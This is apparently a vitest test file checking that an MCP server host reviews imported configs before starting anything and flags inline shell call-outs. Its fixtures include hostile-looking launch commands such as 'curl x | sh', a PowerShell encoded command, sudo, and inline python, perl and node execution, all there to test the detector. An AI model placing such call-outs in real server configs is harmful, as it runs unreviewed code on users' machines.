/**
 * Issue #12: a pasted or imported config never starts anything before the person confirms the
 * reviewed set. A real host; the config's server is `/bin/sh -c` whose script creates a marker
 * file, so the marker proves whether it ran.
 */
import { existsSync, promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { UI_METHODS } from '../../src/api/ui-api.js';
import type { Host } from '../../src/host/host.js';
import { fixtureServer, startHost } from '../helpers/host-kit.js';

const FIXTURE = fileURLToPath(new URL('../fixtures/servers/fixture-server.mjs', import.meta.url));
const BASIC = fileURLToPath(new URL('../fixtures/servers/basic.json', import.meta.url));

let dataDir: string;
let host: Host;

beforeAll(async () => {
  dataDir = await fs.mkdtemp(path.join(os.tmpdir(), 'tb-import-review-'));
  host = await startHost(dataDir, { servers: [], policies: { default: 'allow' } });
});

afterAll(async () => {
  await host?.close();
  await fs.rm(dataDir, { recursive: true, force: true });
});

const markerScript = (marker: string) =>
  `touch '${marker}' && exec '${process.execPath}' '${FIXTURE}' '${BASIC}'`;

describe('issue #12: import through the UI API', () => {
  it('has no method that adds and starts a pasted config in one step', () => {
    expect(UI_METHODS).not.toContain('importServers');
    expect(UI_METHODS).toEqual(expect.arrayContaining(['reviewImport', 'confirmImport']));
  });

  it('review starts nothing and writes nothing; confirm starts exactly the reviewed server', async () => {
    const marker = path.join(dataDir, 'ran-1');
    const settingsBefore = await fs.readFile(path.join(dataDir, 'settings.json'), 'utf8');
    const review = await host.api.reviewImport(
      JSON.stringify({ mcpServers: { shelly: { command: '/bin/sh', args: ['-c', markerScript(marker)] } } }),
    );
    expect(review.servers[0]!.callouts).toEqual([
      { kind: 'inline-script', message: 'runs a shell script inline (sh -c)', code: markerScript(marker) },
    ]);
    expect(host.servers.ids()).toEqual([]);
    expect(await fs.readFile(path.join(dataDir, 'settings.json'), 'utf8')).toBe(settingsBefore);
    expect(existsSync(marker)).toBe(false);

    const [view] = await host.api.confirmImport(review.id);
    expect(view!.id).toBe('shelly');
    expect(host.servers.ids()).toEqual(['shelly']);
    await expect.poll(() => existsSync(marker), { timeout: 20_000 }).toBe(true);
  });

  it('a review id is single use, and a made-up one starts nothing', async () => {
    const marker = path.join(dataDir, 'ran-2');
    const review = await host.api.reviewImport(
      JSON.stringify({ mcpServers: { once: { command: 'sh', args: ['-c', markerScript(marker)] } } }),
    );
    await expect(host.api.confirmImport(`${review.id}x`)).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await host.api.confirmImport(review.id);
    await expect(host.api.confirmImport(review.id)).rejects.toMatchObject({ code: 'NOT_FOUND' });
    expect(host.servers.ids().filter((id) => id === 'once')).toHaveLength(1);
  });

  it('refuses to start a set other than the one reviewed (an id taken in between)', async () => {
    const marker = path.join(dataDir, 'ran-3');
    const review = await host.api.reviewImport(
      JSON.stringify({ mcpServers: { racer: { command: 'sh', args: ['-c', markerScript(marker)] } } }),
    );
    await host.api.addServer(fixtureServer('racer', 'basic'));
    await expect(host.api.confirmImport(review.id)).rejects.toMatchObject({ code: 'INVALID_ARGUMENT' });
    expect(host.servers.ids().filter((id) => id.startsWith('racer'))).toEqual(['racer']);
    expect(existsSync(marker)).toBe(false);
  });

  it('every client shape and every spelling of a shell call-out is reviewed per server', async () => {
    const configs = [
      { mcpServers: { a: { command: '/usr/bin/env', args: ['bash', '-c', 'id'] } } },
      { mcpServers: { b: { type: 'stdio', command: 'bash', args: ['-lc', 'id'] } } },
      { servers: { c: { type: 'stdio', command: 'zsh', args: ['-c', 'id'] } } },
      { mcp: { servers: { d: { command: 'cmd', args: ['/c', 'whoami'] } } } },
      {
        e: {
          command: 'powershell',
          args: ['-EncodedCommand', btoa(String.fromCharCode(...Buffer.from('id', 'utf16le')))],
        },
      },
      { mcpServers: { f: { command: 'python3', args: ['-c', 'import os; os.system("id")'] } } },
      { mcpServers: { g: { command: 'node', args: ['--eval', 'require("child_process")'] } } },
      { mcpServers: { h: { command: 'perl', args: ['-e', 'system "id"'] } } },
      { mcpServers: { i: { command: 'sudo', args: ['node', 'srv.js'] } } },
      { mcpServers: { j: { command: 'dash', args: ['-c', 'curl x | sh'] } } },
    ];
    for (const config of configs) {
      const review = await host.api.reviewImport(JSON.stringify(config));
      expect(review.servers, JSON.stringify(config)).toHaveLength(1);
      const kinds = review.servers[0]!.callouts.map((c) => c.kind);
      expect(
        kinds.some((kind) => kind === 'inline-script' || kind === 'admin'),
        JSON.stringify(config),
      ).toBe(true);
    }
    const two = await host.api.reviewImport(
      JSON.stringify({
        mcpServers: { x: { command: 'npx', args: ['-y', 'pkg'] }, y: { command: 'sh', args: ['-c', 'id'] } },
      }),
    );
    expect(two.servers.map((server) => [server.id, server.callouts.length])).toEqual([
      ['x', 0],
      ['y', 1],
    ]);
  });
});
